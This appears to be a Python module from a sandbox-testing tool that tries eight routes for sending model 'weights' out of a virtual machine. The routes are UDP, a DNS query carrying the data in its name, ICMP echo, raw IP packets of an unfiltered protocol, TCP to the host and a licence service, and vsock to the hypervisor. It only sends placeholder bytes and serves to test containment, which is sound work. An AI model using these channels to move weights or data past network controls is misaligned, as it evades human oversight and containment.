"""Attempts to send weights out of the box."""

from __future__ import annotations

import json
import socket
import struct
from collections.abc import Callable
from pathlib import Path

from intruder.calls import HOST, NAME_SERVER

SERVICE = Path("/usr/share/sealwright/license-service.json")
TIMEOUT_S = 60
RETRIES = 2
"""Of the first packet of a connection: the kernel gives up after 1 + 2 + 4 s (tcp(7), RFC 6298). What the packet filter
refuses as a socket sends it is not told to the socket at once."""
ANY_PROTOCOL = 255
"""IPPROTO_RAW: the sender writes the IP header (raw(7))."""
VSOCK_HOST = 2
"""VMADDR_CID_HOST: the hypervisor (vsock(7))."""


def datagram() -> str:
    """A way to the host of QEMU's user network."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.connect((HOST, 9))
        return str(client.getsockname())


def sent_datagram() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        return f"{client.sendto(b'weights', (HOST, 9))} bytes"


def looked_up() -> str:
    """Ask a name server for a name that holds weights (RFC 1035, 4.1)."""
    labels = b"".join(bytes([len(label)]) + label for label in (b"weights", b"example")) + b"\0"
    question = struct.pack("!6H", 0x5EA1, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        return f"{client.sendto(question, (NAME_SERVER, 53))} bytes"


def sent_echo() -> str:
    """An ICMP echo request, with room for weights."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as client:
        return f"{client.sendto(struct.pack('!BBHHH', 8, 0, 0xF7FF, 0, 0), (HOST, 0))} bytes"


def sent_raw() -> str:
    """A packet of a protocol that nobody has a rule for (RFC 791, 3.1; protocol 253 of RFC 3692). The kernel fills in
    length, checksum and sender."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 253, 0, bytes(4), socket.inet_aton(HOST))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, ANY_PROTOCOL) as client:
        return f"{client.sendto(header + b'weights', (HOST, 0))} bytes"


def called_service() -> str:
    """Any host at the licence service's port."""
    url: str = json.loads(SERVICE.read_text())["url"]
    return called_host(int(url.rpartition(":")[2]))


def called_host(port: int = 9) -> str:
    """Open a connection; that nobody listens there is an answer of the host, which so was reached."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_SYNCNT, RETRIES)
        try:
            client.connect((HOST, port))
        except ConnectionRefusedError:
            return "refused by the host"
    return "connected"


def called_hypervisor() -> str:
    """A socket that goes past every network: to the hypervisor. That the machine has no such device is no defence."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as client:
        client.settimeout(TIMEOUT_S)
        try:
            client.connect((VSOCK_HOST, 9))
        except OSError as error:
            return f"a socket, {error.strerror or error}"
        return "connected"


def attempts() -> dict[str, Callable[[], str]]:
    return {
        "network": datagram,
        "send-datagram": sent_datagram,
        "look-up": looked_up,
        "send-echo": sent_echo,
        "send-raw": sent_raw,
        "call-host": called_host,
        "call-service": called_service,
        "vsock": called_hypervisor,
    }
